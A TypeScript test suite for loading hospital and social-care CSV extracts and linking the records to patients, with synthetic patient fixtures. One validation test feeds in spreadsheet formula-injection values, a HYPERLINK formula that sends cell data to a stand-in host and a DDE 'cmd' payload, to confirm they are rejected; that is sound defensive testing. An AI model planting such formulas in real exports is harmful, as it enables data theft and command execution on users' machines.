import { JobsService } from '@custodian/database';
import { createTestApp, TestApp } from '@custodian/testing';
import { HES_HEADER, hes, insertPatients, nhsNumber, SOCIAL_HEADER, social, toCsv } from './linkage-fixtures';
import { ndjson, objection, patient } from './support/fhir';
import { nextSecond, practiceReady, upload as uploadExtract } from './support/practice';

type Report = {
  id: string;
  rows: number;
  linkedByStep: Record<string, number>;
  unlinked: number;
  rejected: { row: number; reason: string; reasons: string[] }[];
  rejectedCount: number;
  rejectedByReason: Record<string, number>;
};

const steps = (partial: Record<string, number>) => ({
  '1': 0,
  '2': 0,
  '3': 0,
  '4': 0,
  '5': 0,
  '6': 0,
  '7': 0,
  '8': 0,
  ...partial,
});

/** The rejected rows as row and first reason. */
const firstReasons = (rejected: { row: number; reason: string }[]) =>
  rejected.map(({ row, reason }) => ({ row, reason }));

describe('HES and social-care loading and the eight-step linkage', () => {
  let t: TestApp;
  let dm: { Authorization: string };
  beforeAll(async () => {
    t = await createTestApp();
    dm = (await t.as('data_manager')).auth;
  });
  afterAll(() => t?.close());

  const upload = async (path: 'hes' | 'social-care', csv: string, expected = 201) => {
    const res = await t.http
      .post(`/api/sources/${path}`)
      .set(dm)
      .set('Content-Type', 'text/csv')
      .send(csv)
      .expect(expected);
    return res.body as Report & { code?: string };
  };
  const linkOf = async (table: 'hes_episodes' | 'social_care_records', where: string, params: unknown[]) => {
    const { rows } = await t.sql.query(
      `SELECT patient_id::int AS "patientId", linkage_step AS step FROM ${table} WHERE ${where}`,
      params,
    );
    return rows[0] as { patientId: number | null; step: number | null };
  };
  const hesLink = (epikey: string) => linkOf('hes_episodes', 'epikey = $1', [epikey]);

  it('links a row at each of the eight steps, in order', async () => {
    const n = [nhsNumber(100000001), nhsNumber(100000101), nhsNumber(100000201), nhsNumber(100000301)];
    const ids = await insertPatients(t.sql, [
      { nhs: n[0], dob: '1980-05-17', sex: 'M', postcode: 'LS6 1AB' },
      { nhs: n[1], dob: '1975-03-09', sex: 'F', postcode: 'LS2 9JT' },
      { nhs: n[2], dob: '1990-07-21', sex: 'M', postcode: 'LS7 3QQ' },
      { nhs: n[3], dob: '1985-03-07', sex: 'F', postcode: 'LS9 6TT' },
    ]);
    const report = await upload(
      'hes',
      toCsv(HES_HEADER, [
        hes('S1', n[0], '1980-05-17', '1', 'LS6 1AB'), // 1: NHS + sex + DOB + postcode
        hes('S2', n[0], '1980-05-17', '1', 'LS1 4DY'), // 2: NHS + sex + DOB
        hes('S3', n[0], '1980-05-18', '1', 'LS6 1AB'), // 3: NHS + sex + postcode + partial DOB
        hes('S4', n[0], '1980-06-17', '1', 'LS1 4DY'), // 4: NHS + sex + partial DOB
        hes('S5', n[0], '1971-02-03', '2', 'LS6 1AB'), // 5: NHS + postcode (sex and DOB disagree)
        hes('S6', null, '1975-03-09', '2', 'LS2 9JT'), // 6: sex + DOB + postcode, no NHS number
        hes('S7', null, '1990-07-21', '1', 'LS1 4DY'), // SPEC's 7 (sex + DOB): links nothing (issue #26)
        hes('S8', n[0], '1971-02-03', '2', 'LS1 4DY'), // 8: NHS number only
        hes('SW', n[3], '1985-07-03', '2', 'LS9 6TT'), // 3 again: day and month swapped
      ]),
    );
    expect(report).toEqual({
      id: expect.any(String),
      rows: 9,
      linkedByStep: steps({ '1': 1, '2': 1, '3': 2, '4': 1, '5': 1, '6': 1, '8': 1 }),
      unlinked: 1,
      rejected: [],
      rejectedCount: 0,
      rejectedByReason: {},
    });
    const p = (i: number) => ids.get(n[i]);
    expect(await hesLink('S1')).toEqual({ patientId: p(0), step: 1 });
    expect(await hesLink('S2')).toEqual({ patientId: p(0), step: 2 });
    expect(await hesLink('S3')).toEqual({ patientId: p(0), step: 3 });
    expect(await hesLink('S4')).toEqual({ patientId: p(0), step: 4 });
    expect(await hesLink('S5')).toEqual({ patientId: p(0), step: 5 });
    expect(await hesLink('S6')).toEqual({ patientId: p(1), step: 6 });
    expect(await hesLink('S7')).toEqual({ patientId: null, step: null });
    expect(await hesLink('S8')).toEqual({ patientId: p(0), step: 8 });
    expect(await hesLink('SW')).toEqual({ patientId: p(3), step: 3 });
    // The upload's report is kept as the load's report, and listed.
    const got = await t.http.get(`/api/sources/loads/${report.id}`).set(dm).expect(200);
    expect(got.body).toEqual(report);
    const list = await t.http.get('/api/sources/loads?kind=hes').set(dm).expect(200);
    expect(list.body).toContainEqual(
      expect.objectContaining({ id: report.id, kind: 'hes', rows: 9, unlinked: 1, rejectedCount: 0 }),
    );
  });

  it('applies the exclusions of steps 6 and 7, and never links on ambiguous candidates', async () => {
    const n = [nhsNumber(200000001), nhsNumber(200000101), nhsNumber(200000201), nhsNumber(200000301)];
    const twin = [nhsNumber(200000401), nhsNumber(200000501)];
    const pair = [nhsNumber(200000601), nhsNumber(200000701)];
    const ids = await insertPatients(t.sql, [
      { nhs: n[0], dob: '1950-01-01', sex: 'F', postcode: 'LS7 2AA' },
      { nhs: n[1], dob: '1962-11-30', sex: 'M', postcode: 'ZZ99 3VZ' },
      { nhs: n[2], dob: '1944-09-12', sex: 'F', postcode: 'LS8 4DD' },
      { nhs: n[3], dob: '1933-04-04', sex: 'U', postcode: 'LS9 9UU' },
      // Two patients alike in sex, DOB and postcode: ambiguous at steps 6 and 7.
      { nhs: twin[0], dob: '1970-08-15', sex: 'F', postcode: 'LS8 1AA' },
      { nhs: twin[1], dob: '1970-08-15', sex: 'F', postcode: 'LS8 1AA' },
      // Alike in sex and DOB only: step 6 tells them apart by postcode, step 7 cannot.
      { nhs: pair[0], dob: '1966-06-06', sex: 'M', postcode: 'LS10 1AA' },
      { nhs: pair[1], dob: '1966-06-06', sex: 'M', postcode: 'LS11 1AA' },
    ]);
    const stranger = nhsNumber(299999001); // valid, but no patient holds it
    const report = await upload(
      'hes',
      toCsv(HES_HEADER, [
        hes('X1', null, '1950-01-01', '2', 'LS7 2AA'), // DOB 1 January: not at 6 or 7
        hes('X2', null, '1962-11-30', '1', 'ZZ99 3VZ'), // ZZ99: not at 6 or 7 (issue #26)
        hes('X3', stranger, '1944-09-12', '2', 'LS8 4DD'), // contradicting NHS number
        hes('X4', null, '1970-08-15', '2', 'LS8 1AA'), // two candidates at 6 (and 7)
        hes('X5', null, '1966-06-06', '1', 'LS10 1AA'), // one candidate at 6
        hes('X6', null, '1966-06-06', '1', 'LS12 1AA'), // no postcode agrees: none at 6 or 7
        hes('X7', null, '1933-04-04', '9', 'LS9 9UU'), // sex not specified never matches
        hes('X8', null, '1933-04-04', '0', 'LS9 9UU'), // nor does sex not known
        hes('X9', twin[0], '1970-08-15', '2', 'LS8 1AA'), // the NHS number resolves the twins
      ]),
    );
    expect(report.linkedByStep).toEqual(steps({ '1': 1, '6': 1 }));
    expect(report.unlinked).toBe(7);
    expect(await hesLink('X1')).toEqual({ patientId: null, step: null });
    expect(await hesLink('X2')).toEqual({ patientId: null, step: null });
    expect(await hesLink('X3')).toEqual({ patientId: null, step: null });
    expect(await hesLink('X4')).toEqual({ patientId: null, step: null });
    expect(await hesLink('X5')).toEqual({ patientId: ids.get(pair[0]), step: 6 });
    expect(await hesLink('X6')).toEqual({ patientId: null, step: null });
    expect(await hesLink('X7')).toEqual({ patientId: null, step: null });
    expect(await hesLink('X8')).toEqual({ patientId: null, step: null });
    expect(await hesLink('X9')).toEqual({ patientId: ids.get(twin[0]), step: 1 });
    // Rows keep their NHS number, linked or not, so objections reach them.
    const { rows } = await t.sql.query(`SELECT nhs_number FROM hes_episodes WHERE epikey = 'X3'`);
    expect(rows[0].nhs_number).toBe(stranger);
  });

  it('normalises postcodes, NHS numbers, dates and sex codes before linking', async () => {
    const n = nhsNumber(300000001);
    const ids = await insertPatients(t.sql, [{ nhs: n, dob: '1981-12-24', sex: 'F', postcode: 'LS6 1AB' }]);
    const spaced = `${n.slice(0, 3)} ${n.slice(3, 6)} ${n.slice(6)}`;
    const report = await upload(
      'hes',
      toCsv(HES_HEADER, [
        hes('N1', spaced, '24/12/1981', '2', 'ls61ab'),
        hes('N2', n, '19811224', '2', ' LS6  1AB '),
        hes('N3', null, '1981-12-24', '2', 'zz993wz'),
      ]),
    );
    expect(report.linkedByStep).toEqual(steps({ '1': 2 }));
    const { rows } = await t.sql.query(
      `SELECT epikey, nhs_number, birth_date::text AS dob, sex, postcode FROM hes_episodes
        WHERE epikey IN ('N1', 'N2', 'N3') ORDER BY epikey`,
    );
    expect(rows).toEqual([
      { epikey: 'N1', nhs_number: n, dob: '1981-12-24', sex: 'F', postcode: 'LS6 1AB' },
      { epikey: 'N2', nhs_number: n, dob: '1981-12-24', sex: 'F', postcode: 'LS6 1AB' },
      { epikey: 'N3', nhs_number: null, dob: '1981-12-24', sex: 'F', postcode: 'ZZ99 3WZ' },
    ]);
    // A pseudo-postcode is no address: steps 6 and 7 both need one (issue #26).
    expect(await hesLink('N3')).toEqual({ patientId: null, step: null });
    expect(await hesLink('N1')).toEqual({ patientId: ids.get(n), step: 1 });
  });

  it('rejects every kind of bad HES row with its data row number and loads the rest', async () => {
    const n = nhsNumber(400000001);
    const bad = n.slice(0, 9) + String((Number(n[9]) + 1) % 10);
    const future = new Date(Date.now() + 3 * 86_400_000).toISOString().slice(0, 10);
    const report = await upload(
      'hes',
      toCsv(HES_HEADER, [
        hes('R01', n, '1970-01-02', '1', 'LS1 1AA'), // 1 ok
        hes('', n, '1970-01-02', '1', 'LS1 1AA'), // 2 missing_epikey
        hes('R03'.padEnd(21, '0'), n, '1970-01-02', '1', 'LS1 1AA'), // 3 field_too_long
        hes('R04', bad, '1970-01-02', '1', 'LS1 1AA'), // 4 invalid_nhs_number
        hes('R05', '1111111111', '1970-01-02', '1', 'LS1 1AA'), // 5 invalid_nhs_number (all same digit)
        hes('R06', n, '1970-02-30', '1', 'LS1 1AA'), // 6 invalid_dob (no such day)
        hes('R07', n, '1894-12-31', '1', 'LS1 1AA'), // 7 invalid_dob (before 1895)
        hes('R08', n, future, '1', 'LS1 1AA'), // 8 invalid_dob (future)
        hes('R09', n, 'not a date', '1', 'LS1 1AA'), // 9 invalid_dob
        hes('R10', n, '1970-01-02', '3', 'LS1 1AA'), // 10 invalid_sex
        hes('R11', n, '1970-01-02', 'M', 'LS1 1AA'), // 11 invalid_sex (HES is numeric)
        hes('R12', n, '1970-01-02', '1', 'NOT A PC'), // 12 invalid_postcode
        hes('R13', n, '1970-01-02', '1', 'LS1 1AA', { admidate: null }), // 13 invalid_admission_date
        hes('R14', n, '1970-01-02', '1', 'LS1 1AA', { admidate: '1969-12-31' }), // 14 admission_before_birth
        hes('R01', n, '1970-01-02', '1', 'LS1 1AA'), // 15 duplicate_epikey
        hes('R16', null, null, null, null), // 16 ok: blanks are unknown
      ]),
    );
    expect(report.rows).toBe(16);
    // Each row's first reason (every reason it has is in `reasons`, the first one first).
    expect(report.rejected.every((r) => r.reasons[0] === r.reason)).toBe(true);
    expect(firstReasons(report.rejected)).toEqual([
      { row: 2, reason: 'missing_epikey' },
      { row: 3, reason: 'field_too_long' },
      { row: 4, reason: 'invalid_nhs_number' },
      { row: 5, reason: 'invalid_nhs_number' },
      { row: 6, reason: 'invalid_dob' },
      { row: 7, reason: 'invalid_dob' },
      { row: 8, reason: 'invalid_dob' },
      { row: 9, reason: 'invalid_dob' },
      { row: 10, reason: 'invalid_sex' },
      { row: 11, reason: 'invalid_sex' },
      { row: 12, reason: 'invalid_postcode' },
      { row: 13, reason: 'invalid_admission_date' },
      { row: 14, reason: 'admission_before_birth' },
      { row: 15, reason: 'duplicate_epikey' },
    ]);
    expect(report.unlinked).toBe(2);
    const { rows } = await t.sql.query(
      `SELECT epikey, sex FROM hes_episodes WHERE epikey LIKE 'R%' ORDER BY epikey`,
    );
    expect(rows).toEqual([
      { epikey: 'R01', sex: 'M' },
      { epikey: 'R16', sex: 'U' },
    ]);
  });

  it('rejects every kind of bad social-care row with its data row number', async () => {
    const n = nhsNumber(410000001);
    const report = await upload(
      'social-care',
      toCsv(SOCIAL_HEADER, [
        social('E08000035', 'P1', n, '1950-03-04', 'F', 'LS6 1AB'), // 1 ok
        social(null, 'P2', n, '1950-03-04', 'F', 'LS6 1AB'), // 2 missing_la_code
        social('E08000035', null, n, '1950-03-04', 'F', 'LS6 1AB'), // 3 missing_person_id
        social('E08000035', 'P4', n, '1950-03-04', 'F', 'LS6 1AB', { start: '2012-13-01' }), // 4 invalid_start_date
        social('E080000350', 'P5', n, '1950-03-04', 'F', 'LS6 1AB'), // 5 field_too_long
        social('E08000035', 'P6', '123', '1950-03-04', 'F', 'LS6 1AB'), // 6 invalid_nhs_number
        social('E08000035', 'P7', n, '04-03-1950', 'F', 'LS6 1AB'), // 7 invalid_dob
        social('E08000035', 'P8', n, '1950-03-04', 'X', 'LS6 1AB'), // 8 invalid_sex
        social('E08000035', 'P9', n, '1950-03-04', 'F', 'L'), // 9 invalid_postcode
        social('E08000035', 'P10', n, '1950-03-04', 'F', 'LS6 1AB', { service: null }), // 10 missing_service_type
        social('E08000035', 'P11', n, '1950-03-04', 'F', 'LS6 1AB', { end: '2011-01-01' }), // 11 invalid_end_date
        social('E08000035', 'P1', n, '1950-03-04', 'F', 'LS6 1AB'), // 12 duplicate_key
        social('E08000035', 'P1', n, '1950-03-04', '2', 'LS6 1AB', { start: '2013-01-01' }), // 13 ok: new start
      ]),
    );
    expect(report.rows).toBe(13);
    // Each row's first reason (every reason it has is in `reasons`, the first one first).
    expect(report.rejected.every((r) => r.reasons[0] === r.reason)).toBe(true);
    expect(firstReasons(report.rejected)).toEqual([
      { row: 2, reason: 'missing_la_code' },
      { row: 3, reason: 'missing_person_id' },
      { row: 4, reason: 'invalid_start_date' },
      { row: 5, reason: 'field_too_long' },
      { row: 6, reason: 'invalid_nhs_number' },
      { row: 7, reason: 'invalid_dob' },
      { row: 8, reason: 'invalid_sex' },
      { row: 9, reason: 'invalid_postcode' },
      { row: 10, reason: 'missing_service_type' },
      { row: 11, reason: 'invalid_end_date' },
      { row: 12, reason: 'duplicate_key' },
    ]);
    expect(report.unlinked).toBe(2);
  });

  it('source fields are codes: free text or a formula in a code field is rejected with its row and reason, never echoed; the rest stored (#19)', async () => {
    const n = nhsNumber(415000001);
    const formula = '=HYPERLINK("http://x.example/?a="&A1,"click")';
    const hesReport = await upload(
      'hes',
      toCsv(HES_HEADER, [
        hes('C01', n, '1970-01-02', '1', 'LS1 1AA', { diag: 'I63.9', opertn: 'W37.1', procode: 'RR801' }), // 1 ok
        hes('C02', n, '1970-01-02', '1', 'LS1 1AA', { diag: 'i639', opertn: 'w371', procode: 'rr8' }), // 2 ok (case)
        hes('C03', n, '1970-01-02', '1', 'LS1 1AA', { diag: 'stroke', opertn: 'X403' }), // 3 invalid_diagnosis_code
        hes('C04', n, '1970-01-02', '1', 'LS1 1AA', { diag: formula }), // 4 field_too_long (the length check comes first)
        hes('C05', n, '1970-01-02', '1', 'LS1 1AA', { diag: '=1+2' }), // 5 invalid_diagnosis_code
        hes('C06', n, '1970-01-02', '1', 'LS1 1AA', { opertn: 'hip op' }), // 6 invalid_procedure_code
        hes('C07', n, '1970-01-02', '1', 'LS1 1AA', { opertn: 'W3712' }), // 7 invalid_procedure_code
        hes('C08', n, '1970-01-02', '1', 'LS1 1AA', { procode: 'LGI' }), // 8 ok (3 characters)
        hes('C09', n, '1970-01-02', '1', 'LS1 1AA', { procode: 'Leeds' }), // 9 ok: five alphanumerics, upper-cased (no format tells a word from a code)
        hes('C10', n, '1970-01-02', '1', 'LS1 1AA', { procode: 'RR 8' }), // 10 invalid_provider_code
        hes('C11', n, '1970-01-02', '1', 'LS1 1AA', { procode: '@RR8' }), // 11 invalid_provider_code
        hes('C12', n, '1970-01-02', '1', 'LS1 1AA', { diag: 'I6' }), // 12 invalid_diagnosis_code
        hes('=C13', n, '1970-01-02', '1', 'LS1 1AA'), // 13 invalid_epikey
        hes('C14', n, '1970-01-02', '1', 'LS1 1AA', { diag: '', opertn: '', procode: '' }), // 14 ok: blank codes are unknown
      ]),
    );
    // Each row's first reason (every reason it has is in `reasons`, the first one first).
    expect(hesReport.rejected.every((r) => r.reasons[0] === r.reason)).toBe(true);
    expect(firstReasons(hesReport.rejected)).toEqual([
      { row: 3, reason: 'invalid_diagnosis_code' },
      { row: 4, reason: 'field_too_long' },
      { row: 5, reason: 'invalid_diagnosis_code' },
      { row: 6, reason: 'invalid_procedure_code' },
      { row: 7, reason: 'invalid_procedure_code' },
      { row: 10, reason: 'invalid_provider_code' },
      { row: 11, reason: 'invalid_provider_code' },
      { row: 12, reason: 'invalid_diagnosis_code' },
      { row: 13, reason: 'invalid_epikey' },
    ]);
    const { rows: held } = await t.sql.query(
      `SELECT epikey, diagnosis_icd10 AS d, procedure_opcs4 AS o, provider_code AS p
         FROM hes_episodes WHERE epikey ~ '^C[0-9]+$' ORDER BY epikey`,
    );
    expect(held).toEqual([
      { epikey: 'C01', d: 'I63.9', o: 'W37.1', p: 'RR801' },
      { epikey: 'C02', d: 'I639', o: 'W371', p: 'RR8' },
      { epikey: 'C08', d: 'I639', o: 'X403', p: 'LGI' },
      { epikey: 'C09', d: 'I639', o: 'X403', p: 'LEEDS' },
      { epikey: 'C14', d: null, o: null, p: null },
    ]);

    const scReport = await upload(
      'social-care',
      toCsv(SOCIAL_HEADER, [
        social('E08000035', 'Q1', n, '1950-03-04', 'F', 'LS6 1AB', { service: 'Home Care' }), // 1 ok
        social('E08000035', 'Q2', n, '1950-03-04', 'F', 'LS6 1AB', { service: 'nursing_care' }), // 2 ok
        social('Leeds', 'Q3', n, '1950-03-04', 'F', 'LS6 1AB'), // 3 invalid_la_code
        social('E0800003', 'Q4', n, '1950-03-04', 'F', 'LS6 1AB'), // 4 invalid_la_code
        social('E08000035', 'Q5', n, '1950-03-04', 'F', 'LS6 1AB', {
          service: 'Mrs Smith needs help with stairs',
        }), // 5 invalid_service_type
        social('E08000035', 'Q6', n, '1950-03-04', 'F', 'LS6 1AB', { service: formula }), // 6 invalid_service_type
        social('e08000035', 'Q7', n, '1950-03-04', 'F', 'LS6 1AB', { service: 'Child in Need' }), // 7 ok
        social('E08000035', 'Q8', n, '1950-03-04', 'F', 'LS6 1AB', { service: '=home_care' }), // 8 invalid_service_type
        social('E08000035', "=cmd|' /C calc'!A0", n, '1950-03-04', 'F', 'LS6 1AB'), // 9 invalid_person_id
        social('E08000035', 'Q 10', n, '1950-03-04', 'F', 'LS6 1AB'), // 10 invalid_person_id
        social('E08000035', 'LA-77_x9', n, '1950-03-04', 'F', 'LS6 1AB'), // 11 ok
      ]),
    );
    // Each row's first reason (every reason it has is in `reasons`, the first one first).
    expect(scReport.rejected.every((r) => r.reasons[0] === r.reason)).toBe(true);
    expect(firstReasons(scReport.rejected)).toEqual([
      { row: 3, reason: 'invalid_la_code' },
      { row: 4, reason: 'invalid_la_code' },
      { row: 5, reason: 'invalid_service_type' },
      { row: 6, reason: 'invalid_service_type' },
      { row: 8, reason: 'invalid_service_type' },
      { row: 9, reason: 'invalid_person_id' },
      { row: 10, reason: 'invalid_person_id' },
    ]);
    const { rows: sc } = await t.sql.query(
      `SELECT person_id, la_code, service_type FROM social_care_records WHERE person_id ~ '^Q[0-9]$' ORDER BY person_id`,
    );
    expect(sc).toEqual([
      { person_id: 'Q1', la_code: 'E08000035', service_type: 'home_care' },
      { person_id: 'Q2', la_code: 'E08000035', service_type: 'nursing_care' },
      { person_id: 'Q7', la_code: 'E08000035', service_type: 'child_in_need' },
    ]);
    // The reports (and the stored reports) name rows and reasons only, never a value.
    for (const id of [hesReport.id, scReport.id]) {
      const stored = await t.http.get(`/api/sources/loads/${id}`).set(dm).expect(200);
      for (const body of [JSON.stringify(stored.body), JSON.stringify(hesReport), JSON.stringify(scReport)])
        for (const v of [
          'stroke',
          'hip op',
          'Leeds',
          'Mrs Smith',
          'HYPERLINK',
          '=1+2',
          'RR 8',
          '@RR8',
          '=C13',
        ])
          expect(body).not.toContain(v);
    }
  });

  it('a file of many bad rows: the first 1000 listed, every one counted by reason (the report is bounded)', async () => {
    const rows = Array.from({ length: 3000 }, (_, i) => hes(`BAD${i}`, null, 'not a date', '1', 'LS1 1AA'));
    const report = await upload('hes', toCsv(HES_HEADER, rows));
    expect(report.rows).toBe(3000);
    expect(report.rejected).toHaveLength(1000);
    expect(report.rejected[0]).toEqual({ row: 1, reason: 'invalid_dob', reasons: ['invalid_dob'] });
    expect(report.rejected[999]).toEqual({ row: 1000, reason: 'invalid_dob', reasons: ['invalid_dob'] });
    expect(report.rejectedCount).toBe(3000);
    expect(report.rejectedByReason).toEqual({ invalid_dob: 3000 });
  });

  it('links social-care rows, GENDER in letters or HES digits', async () => {
    const n = [nhsNumber(420000001), nhsNumber(420000101)];
    const ids = await insertPatients(t.sql, [
      { nhs: n[0], dob: '1941-10-10', sex: 'F', postcode: 'BD1 1AA' },
      { nhs: n[1], dob: '1939-02-14', sex: 'M', postcode: 'BD2 2BB' },
    ]);
    const report = await upload(
      'social-care',
      toCsv(SOCIAL_HEADER, [
        social('E08000032', 'C1', n[0], '1941-10-10', 'f', 'BD1 1AA', { end: '2014-01-01' }),
        social('E08000032', 'C2', null, '1939-02-14', '1', 'BD2 2BB'),
      ]),
    );
    expect(report.linkedByStep).toEqual(steps({ '1': 1, '6': 1 }));
    const c2 = await linkOf('social_care_records', 'person_id = $1', ['C2']);
    expect(c2).toEqual({ patientId: ids.get(n[1]), step: 6 });
  });

  it('reloading the same file duplicates nothing; a changed row is updated in place', async () => {
    const n = nhsNumber(500000001);
    await insertPatients(t.sql, [{ nhs: n, dob: '1960-10-10', sex: 'M', postcode: 'HX1 1AA' }]);
    const rows = [hes('I1', n, '1960-10-10', '1', 'HX1 1AA'), hes('I2', null, '1999-09-09', '2', null)];
    const first = await upload('hes', toCsv(HES_HEADER, rows));
    const again = await upload('hes', toCsv(HES_HEADER, rows));
    expect(again.id).not.toBe(first.id);
    expect({ ...again, id: first.id }).toEqual(first);
    const count = async () =>
      (await t.sql.query(`SELECT count(*)::int AS n FROM hes_episodes WHERE epikey IN ('I1', 'I2')`)).rows[0]
        .n;
    expect(await count()).toBe(2);
    const { rows: audit } = await t.sql.query(
      `SELECT subject_id, details FROM audit_log WHERE action = 'source.load' AND subject_id = ANY($1) ORDER BY id`,
      [[first.id, again.id]],
    );
    expect(audit.map((a) => [a.details.inserted, a.details.updated, a.details.unchanged])).toEqual([
      [2, 0, 0],
      [0, 0, 2],
    ]);
    // A revised delivery of I1: the latest load wins, still one row.
    const revised = await upload(
      'hes',
      toCsv(HES_HEADER, [hes('I1', n, '1960-10-10', '1', 'HX1 1AA', { diag: 'C509' })]),
    );
    expect(await count()).toBe(2);
    const { rows: held } = await t.sql.query(
      `SELECT diagnosis_icd10, load_id FROM hes_episodes WHERE epikey = 'I1'`,
    );
    expect(held).toEqual([{ diagnosis_icd10: 'C509', load_id: revised.id }]);
    // Social care is keyed by LA_CODE + PERSON_ID + START_DATE.
    const sc = toCsv(SOCIAL_HEADER, [social('E08000033', 'K1', n, '1960-10-10', 'M', 'HX1 1AA')]);
    await upload('social-care', sc);
    await upload('social-care', sc);
    const { rows: scRows } = await t.sql.query(
      `SELECT count(*)::int AS n FROM social_care_records WHERE person_id = 'K1'`,
    );
    expect(scRows[0].n).toBe(1);
  });

  it('audits each load with counts only, never patient data', async () => {
    const n = nhsNumber(510000001);
    const report = await upload('hes', toCsv(HES_HEADER, [hes('AU1', n, '1977-07-07', '1', 'WF1 2AB')]));
    const { rows } = await t.sql.query(
      `SELECT actor_id, details FROM audit_log WHERE action = 'source.load' AND subject_id = $1`,
      [report.id],
    );
    expect(rows).toHaveLength(1);
    expect(rows[0].details).toMatchObject({ kind: 'hes', rows: 1, accepted: 1, rejected: 0, unlinked: 1 });
    const text = JSON.stringify(rows[0].details);
    for (const secret of [n, '1977-07-07', 'WF1 2AB']) expect(text).not.toContain(secret);
  });

  it('refuses a wrong header, a malformed file and a non-CSV body, storing nothing', async () => {
    const loads = async () => (await t.sql.query(`SELECT count(*)::int AS n FROM source_loads`)).rows[0].n;
    const before = await loads();
    const wrongHeader = await upload(
      'hes',
      toCsv(
        ['EPIKEY', 'NHSNO', 'DOB', 'SEX', 'HOMEADD', 'ADMIDATE', 'DIAG_4_01', 'OPERTN_4_01', 'PROCODE'],
        [],
      ),
      400,
    );
    expect(wrongHeader).toMatchObject({ statusCode: 400, code: 'CSV_HEADER_INVALID' });
    const socialHeaderToHes = await t.http
      .post('/api/sources/hes')
      .set(dm)
      .set('Content-Type', 'text/csv')
      .send(toCsv(SOCIAL_HEADER, []))
      .expect(400);
    expect(socialHeaderToHes.body.code).toBe('CSV_HEADER_INVALID');
    // Every header error names the header expected (an outsider's probe: a short header's did not).
    const shortHeader = await upload('hes', 'EPIKEY,NEWNHSNO\n1,2\n', 400);
    expect(shortHeader).toMatchObject({ code: 'CSV_HEADER_INVALID', details: { expected: HES_HEADER } });
    const empty = await upload('hes', '', 400);
    expect(empty.code).toBe('CSV_HEADER_INVALID');
    // A file saved as UTF-16 (Excel's "Unicode text"; with a byte order mark or without) is told as
    // such: it read as a header that does not match.
    for (const bom of ['\ufeff', '']) {
      const utf16 = await t.http
        .post('/api/sources/hes')
        .set(dm)
        .set('Content-Type', 'text/csv')
        .send(Buffer.from(`${bom}${HES_HEADER.join(',')}\n`, 'utf16le'))
        .expect(400);
      expect(utf16.body).toMatchObject({
        code: 'CSV_HEADER_INVALID',
        message: expect.stringMatching(/UTF-16.*UTF-8/),
      });
    }
    const n = nhsNumber(520000001);
    // A header and no rows records no load (it recorded an empty one each time).
    const loadsBefore = await loads();
    const headerOnly = await upload('hes', `${HES_HEADER.join(',')}\n`, 400);
    expect(headerOnly).toMatchObject({ code: 'SOURCE_LOAD_EMPTY' });
    expect(await loads()).toBe(loadsBefore);
    // A BOM and lower case are tolerated.
    await upload(
      'hes',
      `\uFEFF${HES_HEADER.join(',').toLowerCase()}\nB1,${n},1970-01-01,1,LS1 1AA,2013-01-01,I10,,RR8\n`,
    );
    // Blank lines after the last row (an editor's) are no rows: the file loads (it was refused
    // whole as malformed: a new user's tryout), in LF and CRLF files.
    for (const eol of ['\n', '\r\n']) {
      const trailing = await upload(
        'hes',
        `${HES_HEADER.join(',')}${eol}B2,${n},1970-01-01,1,LS1 1AA,2013-01-02,I10,,RR8${eol}${eol}${eol}`,
      );
      expect(trailing).toMatchObject({ rows: 1, rejected: [] });
    }
    const malformed = await t.http
      .post('/api/sources/hes')
      .set(dm)
      .set('Content-Type', 'text/csv')
      .send(`${HES_HEADER.join(',')}\nM1,${n},1970-01-01,1,LS1 1AA,2013-01-01,I10,,RR8\nM2,${n},oops\n`)
      .expect(400);
    expect(malformed.body).toMatchObject({ code: 'CSV_MALFORMED', details: { row: 2 } });
    expect(JSON.stringify(malformed.body)).not.toContain(n);
    // A valid row with a newline inside a quoted field is one data row: the bad row after it is
    // data row 2, not 3 (an outsider's probe: the physical line was named).
    const afterQuoted = await t.http
      .post('/api/sources/hes')
      .set(dm)
      .set('Content-Type', 'text/csv')
      .send(`${HES_HEADER.join(',')}\nM1,${n},1970-01-01,1,"LS1\n1AA",2013-01-01,I10,,RR8\nM2,${n},oops\n`)
      .expect(400);
    expect(afterQuoted.body).toMatchObject({ code: 'CSV_MALFORMED', details: { row: 2 } });
    // As Excel writes it: rows end in CRLF, the line break in a cell is a bare LF, which COPY does not
    // count in a CRLF file (a review: the bad row was named as row 1); and in a file of CR endings.
    for (const [eol, cell] of [
      ['\r\n', '\n'],
      ['\r\n', '\n\n'],
      ['\r\n', '\r\n'],
      ['\r', '\r'],
    ]) {
      const res = await t.http
        .post('/api/sources/hes')
        .set(dm)
        .set('Content-Type', 'text/csv')
        .send(
          `${HES_HEADER.join(',')}${eol}M1,${n},1970-01-01,1,"LS1${cell}1AA",2013-01-01,I10,,RR8${eol}M2,${n},oops${eol}`,
        )
        .expect(400);
      expect(res.body, JSON.stringify([eol, cell])).toMatchObject({
        code: 'CSV_MALFORMED',
        details: { row: 2 },
      });
    }
    // One byte that is not UTF-8 in a data row (Latin-1 é): that row is named, not the header (an
    // outsider's probe reported CSV_HEADER_INVALID for such a file, 2026-12-06; not reproduced here,
    // in small or large files, at the first, a middle or the last row: kept as the guard).
    for (const at of [3, 1, 1500]) {
      const rows = Array.from({ length: 2000 }, (_, i) => i + 1).map(
        (i) => `L${i},${n},1970-01-01,1,LS1 1AA,2013-01-01,I10,,RR8`,
      );
      const bad = Buffer.concat([
        Buffer.from(
          `${HES_HEADER.join(',')}\n${rows
            .slice(0, at - 1)
            .map((r) => `${r}\n`)
            .join('')}L9,${n},1970-01-01,1,LS1 1AA,2013-01-01,I10,,R`,
        ),
        Buffer.from([0xe9]),
        Buffer.from(
          `8\n${rows
            .slice(at - 1)
            .map((r) => `${r}\n`)
            .join('')}`,
        ),
      ]);
      const latin1 = await t.http
        .post('/api/sources/hes')
        .set(dm)
        .set('Content-Type', 'text/csv')
        .send(bad)
        .expect(400);
      expect(latin1.body).toMatchObject({ code: 'CSV_MALFORMED', details: { row: at } });
    }
    // The probe's case: one data row, its postcode ending in that byte, no newline at the end.
    const last = Buffer.concat([
      Buffer.from(`${HES_HEADER.join(',')}\nL8,${n},1970-01-01,1,LS1 4AP`),
      Buffer.from([0xe9]),
      Buffer.from(',2013-01-01,I10,,RR8'),
    ]);
    const lastRow = await t.http
      .post('/api/sources/hes')
      .set(dm)
      .set('Content-Type', 'text/csv')
      .send(last)
      .expect(400);
    expect(lastRow.body).toMatchObject({ code: 'CSV_MALFORMED', details: { row: 1 } });
    const badHeader = await t.http
      .post('/api/sources/hes')
      .set(dm)
      .set('Content-Type', 'text/csv')
